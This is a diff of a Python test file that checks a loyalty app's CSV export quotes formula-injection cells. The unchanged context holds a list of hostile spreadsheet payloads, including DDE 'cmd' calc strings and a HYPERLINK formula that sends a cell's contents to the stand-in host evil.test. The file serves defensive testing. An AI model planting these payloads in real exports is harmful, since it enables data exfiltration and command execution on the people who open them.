@@ -17,17 +17,15 @@ from types import SimpleNamespace
 
 import openpyxl
 import pytest
-from helpers.spreadsheet_make import write_csv
-from helpers.spreadsheet_rows import MEMBER_HEADERS
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
+from helpers.spreadsheet_make import write_csv
+from helpers.spreadsheet_rows import MEMBER_HEADERS
 from loyalty_desktop.core.textsafe import FORMULA_TRIGGERS, csv_cell, printable
 from loyalty_desktop.sources.spreadsheet.rejects import RowReject, write_rejects_csv
 from loyalty_desktop.sources.spreadsheet.values import Reason
 from loyalty_desktop.store.rejects import RejectedRow, write_rejected_csv
 from loyalty_emulators.klaviyo.server import DEMO_KEY, KlaviyoSandbox
-from test_spreadsheet_make import write_csv
-from test_spreadsheet_sync import MEMBER_HEADERS
 
 HOSTILE = ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "-", "+", "@", "-x", "=\x1b[31mred"]
@@ -64,7 +62,7 @@ def test_formula_cells_get_a_quote(cell: str) -> None:
     assert csv_cell(cell) == "'" + cell
 
 
-@pytest.mark.parametrize("cell", [*NUMBERS, "alice@example.fr", "Chloé", "", "a=b", "1+1"])
+@pytest.mark.parametrize("cell", NUMBERS + ["alice@example.fr", "Chloé", "", "a=b", "1+1"])
 def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
     assert csv_cell(cell) == cell
     assert csv_cell(-12) == -12 and csv_cell(None) is None
@@ -99,7 +97,7 @@ def test_wizard_export_and_log_lines(tmp_path: Path) -> None:
     logged: list[str] = []
     page = SimpleNamespace(_rejected_rows=[(h, "points", "-12") for h in HOSTILE],
                            log=SimpleNamespace(appendPlainText=logged.append), tr=lambda s: s)
-    page._log = lambda line: SyncPage._log(page, line)
+    page._log = lambda line: SyncPage._log(page, line)  # type: ignore[attr-defined]
     out = tmp_path / "wizard.csv"
     SyncPage.export_rejected(page, str(out))  # type: ignore[arg-type]
     back = read_as_spreadsheet(out.read_text(encoding="utf-8-sig"))
